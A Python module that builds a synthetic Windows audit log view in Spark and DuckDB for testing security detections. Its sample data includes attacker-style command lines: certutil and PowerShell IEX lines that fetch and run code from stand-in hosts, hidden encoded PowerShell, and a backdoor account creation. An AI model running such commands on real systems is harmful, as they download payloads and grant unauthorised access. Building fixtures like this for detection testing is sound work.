"""An audit log with the events and fields that detections look at, as a view of the ``events`` table.

Times run 600 times as fast as those of ``events``, so that windows of minutes hold several events of
a host.  Record numbers count within one of three files, and repeat between them.  The same select list is written for Spark and for DuckDB; only list and hexadecimal functions
are named differently.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from sparklog.sources.security_log import table

#: Event ids of each event type of ``events``, taken in turn by ``k``.
CODES = {
    "click": [4624],
    "error": [4625, 4625, 4625, 4769],
    "view": [4672, 4672, 4798, 4799, 1102, 4719, 4104, 4104, 5140, 17],
    "purchase": [4688, 4688, 1, 1, 3, 7, 11, 13, 8, 10],
    "signup": [7045, 4697, 4698, 4702, 4720, 4634, 4663, 4657, 4689, 4647],
}


def _columns(spark: bool) -> list[tuple[str, str]]:
    number = lambda e: f"CAST(({e}) AS INT)"

    def pick(values: list, index: str) -> str:
        items = ", ".join(f"'{v}'" if isinstance(v, str) else str(v) for v in values)
        return f"element_at(array({items}), {number(f'({index}) % {len(values)}')} + 1)" if spark else f"list_extract([{items}], {number(f'({index}) % {len(values)}')} + 1)"

    hexadecimal = lambda e: f"concat('0x', lower({'hex' if spark else 'to_hex'}({e})))"
    digest = lambda e: f"md5({e})"
    only = lambda codes, e: f"CASE WHEN event_code IN ({', '.join(map(str, codes))}) THEN {e} END"
    start = "timestampdiff(SECOND, TIMESTAMP_NTZ '2024-01-01 00:00:00', CAST(ts AS TIMESTAMP_NTZ))" if spark else "date_diff('second', TIMESTAMP '2024-01-01', CAST(ts AS TIMESTAMP))"
    code = "CASE event_type " + " ".join(f"WHEN '{t}' THEN {pick(c, 'k')}" for t, c in list(CODES.items())[:-1]) + f" ELSE {pick(CODES['signup'], 'k')} END"
    images = ["C:/Windows/System32/cmd.exe", "C:/Windows/System32/WindowsPowerShell/powershell.exe", "C:/Windows/System32/conhost.exe", "C:/Windows/System32/svchost.exe", "C:/Program Files/Office/WINWORD.EXE", "C:/Users/Public/evil.exe", "C:/Windows/System32/certutil.exe", "C:/Windows/System32/notepad.exe", "mshta.exe"]
    parents = ["C:/Program Files/Office/WINWORD.EXE", "C:/Windows/explorer.exe", "C:/Windows/System32/wbem/WmiPrvSE.exe", "C:/Windows/System32/services.exe", "C:/Windows/System32/mshta.exe"]
    commands = ["cmd.exe /c whoami", "powershell.exe -nop -w hidden -enc SQBFAFgA", "certutil.exe -urlcache -f http://203.0.113.7/a.exe a.exe", "net user helper Secret1 /add", "notepad.exe C:/Users/a/notes.txt", "schtasks /create /tn updater /tr c:/t.exe"]
    scripts = ["Get-ChildItem C:/", "IEX (New-Object Net.WebClient).DownloadString(\"http://files.example-host.com/p.ps1\")", "Write-Host done; Invoke-WebRequest https://10.1.2.3:8081/x.", "Start-Process calc"]
    return [
        ("event_code", code),
        ("record_id", "event_id div 3" if spark else "event_id // 3"),
        ("sec", f"CAST(floor({start} / 600.0) AS BIGINT)"),
        ("source_file", "concat('C:/logs/log_', event_id % 3, '.json')"),
        ("channel", "CASE WHEN event_code = 4104 THEN 'Microsoft-Windows-PowerShell/Operational' WHEN event_code IN (1, 3, 7, 8, 10, 11, 13, 17) THEN 'Microsoft-Windows-Sysmon/Operational' WHEN event_code = 7045 THEN 'System' WHEN event_code = 1102 AND k % 20 = 4 THEN 'Layout/Operational' ELSE 'Security' END"),
        ("provider", "CASE WHEN event_code IN (1, 3, 7, 8, 10, 11, 13, 17) THEN 'Microsoft-Windows-Sysmon' ELSE 'Microsoft-Windows-Security-Auditing' END"),
        ("computer", "concat('HOST', CASE WHEN k % 3 < 2 THEN user_id % 10 ELSE k % 10 END)"),
        ("subject_user", "CASE WHEN k % 11 = 0 THEN 'SYSTEM' WHEN k % 13 = 0 THEN concat('HOST', user_id % 10, '$') WHEN event_code IN (4624, 4625) AND k % 5 < 4 THEN '-' WHEN k % 7 = 0 THEN '' ELSE concat('User', user_id % 12) END"),
        ("target_user", only([4624, 4625, 4634, 4647, 4720, 4769], "concat('User', user_id % 12)")),
        ("ip_address", only([4624, 4625, 3], f"CASE WHEN k % 10 = 0 THEN '-' WHEN k % 10 = 1 THEN '127.0.0.1' WHEN k % 10 = 2 THEN 'fe80::1f' ELSE concat({pick(['10.0.', '198.51.', '203.0.'], 'k')}, k % 8, '.', user_id % 250) END")),
        ("logon_type", only([4624, 4625], pick(["2", "3", "5", "10", "3", "4", "8", "3"], "k"))),
        ("logon_id", only([4624, 4634, 4647, 4672, 4688], hexadecimal("user_id * 16 + k % 5"))),
        ("linked_id", only([4624], "CASE WHEN k % 5 = 1 THEN " + hexadecimal("user_id * 16 + 2") + " WHEN k % 5 = 2 THEN " + hexadecimal("user_id * 16 + 1") + " ELSE '0x0' END")),
        ("sub_status", only([4625], pick(["", "0xC000006A", "0xC000006D", "0xC0000072"], "k"))),
        ("auth_package", only([4624], pick(["NTLM", "Kerberos", "NTLM", "Negotiate"], "user_id + k"))),
        ("key_length", only([4624], pick(["0", "128", ""], "k + user_id"))),
        ("lm_package", only([4624], pick(["NTLM V2", "", "Kerberos"], "k"))),
        ("ticket_cipher", only([4769], pick(["0x17", "0x12", "0x17", "23", "0x11"], "user_id"))),
        ("ticket_service", only([4769], pick(["http/web", "krbtgt", "mssql/db", "HOST1$"], "user_id + event_id"))),
        ("service_name", only([7045, 4697], pick(["updater", "PSEXESVC", "printer"], "user_id + k"))),
        ("service_path", only([7045, 4697], pick(["C:/Windows/System32/a.exe", "C:/Users/Public/b.exe", "", "%SystemRoot%/c.exe", "D:/temp/d.exe"], "user_id"))),
        ("privileges", only([4672], pick(["SeDebugPrivilege SeBackupPrivilege", "SeChangeNotifyPrivilege", "SeTcbPrivilege", "", "SeLoadDriverPrivilege SeTcbPrivilege"], "user_id + k"))),
        ("image", only([1, 3, 7, 8, 10, 11, 13, 4688, 4689], pick(images, "user_id + k"))),
        ("parent_image", only([1, 4688], pick(parents, "user_id + event_id"))),
        ("command_line", only([1, 4688], pick(commands, "k + event_id"))),
        ("process_guid", only([1, 8, 10, 4688], "CASE WHEN k % 17 = 0 THEN '' WHEN k % 17 = 1 THEN '{00000000-0000-0000-0000-000000000000}' ELSE concat('{G', event_id - event_id % 2, '}') END")),
        ("parent_guid", only([1, 4688], "concat('{g', event_id - 1 - user_id % 60, '}')")),
        ("pid", only([1, 8, 10, 4688, 4689], "CASE WHEN k % 2 = 0 THEN " + hexadecimal("k % 20 + 100") + " ELSE CAST(k % 20 + 100 AS VARCHAR(9)) END")),
        ("ppid", only([1, 4688], "CAST((k * 7 + user_id) % 20 + 100 AS VARCHAR(9))")),
        ("target_image", only([8, 10], pick(images, "k * 3"))),
        ("task_name", only([4698, 4702], pick(["/updater", "/Microsoft/Windows/Defrag", "/x"], "user_id"))),
        ("share_name", only([5140], pick(["//*/ADMIN$", "//*/finance", "IPC$", "//*/dev"], "user_id"))),
        ("target_object", only([13, 4657, 4663], pick(["HKLM/Software/Microsoft/Windows/CurrentVersion/Run/upd", "HKCU/Environment", "C:/plain/file.txt"], "user_id"))),
        ("target_file", only([11, 4663], pick(["C:/Users/Public/drop.exe", "report.docx", "C:/Windows/Temp/x.ps1"], "user_id"))),
        ("pipe_name", only([17], pick(["/lsass", "/msagent_12", "/wkssvc"], "user_id"))),
        ("loaded_image", only([7], pick(["C:/Windows/System32/ntdll.dll", "C:/Users/Public/side.dll", "C:/Temp/plug.DLL"], "user_id"))),
        ("hashes", only([1, 7], f"concat('MD5=', upper({digest(pick(images, 'user_id + k'))}), ',IMPHASH=00')")),
        ("script_text", only([4104], pick(scripts, "user_id + event_id"))),
        ("message_no", only([4104], "k % 3 + 1")),
        ("block_id", only([4104], "concat('b', user_id)")),
        ("k", "k"),
    ]


def _select(spark: bool) -> tuple[str, list[str]]:
    """The expression of the event id, and the select list that uses it."""
    (_, code), *rest = _columns(spark)
    return code, ["event_code", *[f"{e} AS {c}" if e != c else c for c, e in rest]]


_CODE, _REST = _select(False)
#: The same view as DuckDB common table expressions.
AUDIT_SQL = f"""audit_base AS (SELECT *, {_CODE} AS event_code FROM (SELECT *, CAST(json_extract_string(props, '$.k') AS BIGINT) AS k FROM events)),
audit AS (SELECT {', '.join(_REST)} FROM audit_base)"""


def audit_view(events: DataFrame) -> DataFrame:
    """The view of rows of ``events``."""
    code, rest = _select(True)
    rows = events.withColumn("k", F.get_json_object("props", "$.k").cast("long"))
    return rows.withColumn("event_code", F.expr(code)).selectExpr(*rest)


def audit_log(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The view over ``events``; columns that a query doesn't use aren't read."""
    return audit_view(table(spark, sf_dir, "events"))
